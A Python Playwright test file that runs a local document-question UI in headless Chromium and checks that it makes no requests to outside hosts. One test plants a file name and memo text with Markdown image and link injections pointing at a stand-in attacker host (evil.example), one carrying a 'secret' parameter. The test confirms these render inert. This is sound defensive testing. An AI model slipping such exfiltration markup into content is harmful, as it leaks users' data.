"""End to end in a real headless Chromium: start ``rag ui``, upload a file, ask about it,
wait for the streamed answer, open a citation, save a screenshot.

The server runs under the egress guard (any non-loopback connection from Python
fails and is logged) and every request the browser makes is recorded: the page
must render and work with nothing but the local server.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.integration.ui_server import running_ui

pytestmark = pytest.mark.slow

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
    "--no-first-run",
]
MEMO = (
    "Facilities memo, November 2026.\n\n"
    "From 1 December the Leeds office car park closes at 19:30 on weekdays. "
    "Staff working late must move their cars to the Wellington Street garage.\n"
)


def _open(p: Any, url: str, requests: list[str]) -> tuple[Any, Any]:
    """Chromium with one page on ``url``, every request it makes noted in ``requests``,
    and 3 minutes for each step (a 2-core machine under test load is slow)."""
    from playwright.sync_api import expect

    browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.on("request", lambda r: requests.append(r.url))
    page.set_default_timeout(180_000)
    expect.set_options(timeout=180_000)
    page.goto(url)
    return browser, page


@pytest.fixture()
def server(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    with running_ui(tmp_path) as running:
        yield running


@pytest.mark.skipif(
    not Path(CHROMIUM).exists(), reason="needs Debian's chromium (make test installs it)"
)
def test_upload_ask_and_open_a_citation(server: tuple[str, Path], tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    url, egress_log = server
    memo = tmp_path / "car_park_memo.txt"
    memo.write_text(MEMO)
    requests: list[str] = []
    with sync_playwright() as p:
        browser, page = _open(p, url, requests)
        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()

        # Library: upload the memo and ingest it.
        page.get_by_role("link", name="Library").click()
        page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(memo)
        expect(page.get_by_text("car_park_memo.txt").first).to_be_visible()
        page.get_by_role("button", name="Add to library").click()
        expect(page.get_by_text("added 1").first).to_be_visible()
        page.screenshot(path=str(tmp_path / "library.png"), full_page=True)

        # Chat: ask about it and wait for the streamed answer and its sources.
        page.get_by_role("link", name="Chat").click()
        box = page.get_by_placeholder("Ask a question about your documents")
        box.fill("When does the Leeds office car park close?")
        box.press("Enter")
        source = page.locator('[data-testid="stExpander"] summary').filter(
            has_text="car_park_memo.txt"
        )
        expect(source.first).to_be_visible()
        answer = page.locator('[data-testid="stChatMessage"]').nth(1)
        assert answer.inner_text().strip(), "the answer is on the page"

        # Open the citation: the passage with its supporting words marked.
        source.first.click()
        mark = page.locator("mark.rag-support").first
        expect(mark).to_be_visible()
        assert mark.inner_text().strip()
        page.wait_for_timeout(600)  # let the expander finish opening
        shot = tmp_path / "chat-citation.png"
        page.screenshot(path=str(shot), full_page=True)
        browser.close()

    print(f"screenshot: {shot}")
    assert shot.stat().st_size > 10_000
    foreign = [
        u
        for u in requests
        if urlsplit(u).scheme in ("http", "https", "ws", "wss")
        and urlsplit(u).hostname not in ("127.0.0.1", "localhost")
    ]
    assert not foreign, f"the page fetched from other hosts: {foreign}"
    attempts = egress_log.read_text().splitlines() if egress_log.exists() else []
    assert not attempts, [json.loads(a)["destination"] for a in attempts]


HOSTILE_NAME = "![i](https:evil.example?x).txt"
HOSTILE_TEXT = (
    "Parking notice, December 2026.\n\n"
    "The visitor car park closes at 19:30 on weekdays. "
    "![pixel](https://evil.example/p.png?secret=parking) "
    "Visitors must leave by 19:30 or call <https://evil.example/call> to extend.\n"
)


@pytest.mark.skipif(
    not Path(CHROMIUM).exists(), reason="needs Debian's chromium (make test installs it)"
)
def test_hostile_names_and_text_render_inert(server: tuple[str, Path], tmp_path: Path) -> None:
    """A file name and a document that carry Markdown images and links: the page shows
    them as text, and the browser fetches nothing from any other host."""
    from playwright.sync_api import expect, sync_playwright

    url, egress_log = server
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / HOSTILE_NAME).write_text(HOSTILE_TEXT)
    requests: list[str] = []
    with sync_playwright() as p:
        browser, page = _open(p, url, requests)
        page.get_by_role("link", name="Library").click()
        page.get_by_role("tab", name="Ingest a folder on this machine").click()
        page.get_by_placeholder("/srv/shared/contracts").fill(str(folder))
        page.get_by_role("button", name="Ingest folder").click()
        expect(page.get_by_text("added 1").first).to_be_visible()

        page.get_by_role("link", name="Chat").click()
        box = page.get_by_placeholder("Ask a question about your documents")
        box.fill("When does the visitor car park close?")
        box.press("Enter")
        source = page.locator('[data-testid="stExpander"] summary').filter(has_text="evil.example")
        expect(source.first).to_be_visible()
        shown = source.first.inner_text().replace("\u200b", "")
        assert HOSTILE_NAME in shown, "the name shows as it is (zero-width spaces aside)"
        page.wait_for_timeout(1500)  # time for any image to be requested
        images = page.locator("img").evaluate_all("els => els.map(e => e.src)")
        links = page.locator("a[href]").evaluate_all("els => els.map(e => e.href)")

        page.screenshot(path=str(tmp_path / "hostile.png"), full_page=True)
        browser.close()

    assert not [s for s in images if "evil" in s], images
    assert not [h for h in links if "evil" in h], links
    foreign = [u for u in requests if urlsplit(u).hostname not in ("127.0.0.1", "localhost", None)]
    assert not foreign, f"the page fetched from other hosts: {foreign}"
    attempts = egress_log.read_text().splitlines() if egress_log.exists() else []
    assert not attempts, [json.loads(a)["destination"] for a in attempts]
